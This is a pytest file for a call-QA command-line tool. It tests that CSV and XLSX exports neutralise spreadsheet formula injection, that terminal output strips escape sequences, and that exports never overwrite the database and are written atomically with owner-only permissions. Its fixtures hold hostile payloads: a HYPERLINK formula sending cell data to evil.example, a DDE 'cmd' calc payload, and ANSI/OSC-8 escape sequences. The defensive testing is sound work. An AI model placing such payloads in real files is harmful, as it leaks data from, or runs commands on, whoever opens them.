"""Hostile ids and text in the exports (issue 16, items 1, 9 and 12): no live formula in CSV or XLSX, exact values
in JSON and Parquet, XLSX with control characters, no export over the database, atomic owner-only files."""

from __future__ import annotations

import csv
import json
import os
import stat
from datetime import datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from callqa.cli import app
from callqa.export import spreadsheet_safe
from db_helpers import CallSpec, build_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]
CONTROL = "agent\x1b]8;;http://evil.example\x07link\x1b[31m\x00\x0b\x9b31m"
AGENTS = [*FORMULAS, CONTROL, "plain.agent"]


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    calls = [CallSpec(f"c{i}", agent, datetime(2024, 5, 6 + i % 3, 9), {"greeting": "pass", "dead_air": "fail"})
             for i, agent in enumerate(AGENTS)]
    return build_db(tmp_path_factory.mktemp("hostile") / "calls.duckdb", calls)


def scorecard(db: Path, *args: str):
    return CliRunner().invoke(app, ["scorecard", "--db", str(db), *args])


def _is_neutral(cell: str) -> bool:
    return cell[:1] not in set("=+-@\t\r\uff1d") and cell.lstrip()[:1] not in set("=+-@\uff1d")


def test_csv_cells_never_start_a_formula(db, tmp_path):
    out = tmp_path / "s.csv"
    assert scorecard(db, "-o", str(out)).exit_code == 0
    with out.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    cells = [cell for row in rows for cell in row]
    assert all(_is_neutral(cell) for cell in cells), [c for c in cells if not _is_neutral(c)]
    agents = {row[0] for row in rows[1:]}
    assert {"'" + f for f in FORMULAS} <= agents and "plain.agent" in agents  # the value stays readable


def test_sql_csv_output_is_neutralised_too(db):
    result = CliRunner().invoke(app, ["sql", "--db", str(db), "--format", "csv",
                                      "SELECT agent_id, '=1+1' AS \"=formula\" FROM calls"])
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(result.stdout.splitlines()))
    assert rows[0] == ["agent_id", "'=formula"] and all(_is_neutral(c) for row in rows for c in row)


def test_xlsx_has_no_formula_cell_and_survives_control_characters(db, tmp_path):
    out = tmp_path / "s.xlsx"
    result = scorecard(db, "-o", str(out))
    assert result.exit_code == 0, result.stderr
    book = openpyxl.load_workbook(out)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert all(_is_neutral(t) for t in texts)
    assert "agent\ufffd]8;;http://evil.example\ufffdlink\ufffd[31m\ufffd\ufffd\x9b31m" in texts


@pytest.mark.parametrize("fmt", ["json", "parquet"])
def test_json_and_parquet_keep_exact_values(db, tmp_path, fmt):
    out = tmp_path / f"s.{fmt}"
    assert scorecard(db, "-o", str(out)).exit_code == 0
    frame = pd.DataFrame(json.loads(out.read_text())) if fmt == "json" else pd.read_parquet(out)
    assert set(frame["agent_id"]) == set(AGENTS)


@given(st.text(max_size=12))
@settings(max_examples=300, deadline=None)
def test_spreadsheet_safe_never_leaves_a_formula_and_only_prefixes(value):
    safe = spreadsheet_safe(value)
    assert _is_neutral(safe) if safe else True
    assert safe in (value, "'" + value)


def test_terminal_table_shows_no_escape_sequence(db):
    result = scorecard(db)
    assert result.exit_code == 0
    assert not any(ch in result.stdout for ch in "\x1b\x07\x00\x0b\x9b")
    assert "agent?]8;;http://evil.example?link?[31m" in result.stdout


# ---------------------------------------------------------------- the output file


def test_export_over_the_database_or_its_wal_is_refused(db, tmp_path, monkeypatch):
    before = db.read_bytes()
    link = tmp_path / "innocent.csv"
    link.symlink_to(db)
    wal_link = tmp_path / "w.csv"
    wal_link.symlink_to(db.with_name(db.name + ".wal"))  # dangling until DuckDB writes a WAL
    hard = tmp_path / "hard.parquet"
    os.link(db, hard)
    monkeypatch.chdir(db.parent)
    for target, fmt in [(db, "csv"), (Path("calls.duckdb"), "xlsx"), (Path("../") / db.parent.name / db.name, "csv"),
                        (link, None), (wal_link, None), (Path(db.name + ".wal"), "html"), (hard, None)]:
        result = scorecard(db, "-o", str(target), *(["--format", fmt] if fmt else []))
        assert result.exit_code == 2, (target, result.stderr)
        assert "refusing to write the export over" in result.stderr and "Traceback" not in result.stderr
    assert db.read_bytes() == before
    assert not db.with_name(db.name + ".wal").exists()


@pytest.mark.parametrize("name", ["s.csv", "s.html", "s.xlsx", "s.parquet", "s.json"])
def test_exports_are_owner_only_and_replace_the_old_file_atomically(db, tmp_path, name):
    out = tmp_path / name
    out.write_text("the previous report")
    os.chmod(out, 0o644)
    assert scorecard(db, "-o", str(out)).exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_bytes() != b"the previous report"
    assert [p.name for p in tmp_path.iterdir()] == [name]  # no temporary file left


def test_a_failed_write_leaves_the_previous_file(db, tmp_path, monkeypatch):
    out = tmp_path / "s.csv"
    out.write_text("the previous report")

    def full_disk(self, *args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "write_text", full_disk)
    result = scorecard(db, "-o", str(out))
    assert result.exit_code == 2 and "No space left on device" in result.stderr
    assert out.read_text() == "the previous report"
    assert [p.name for p in tmp_path.iterdir()] == ["s.csv"]
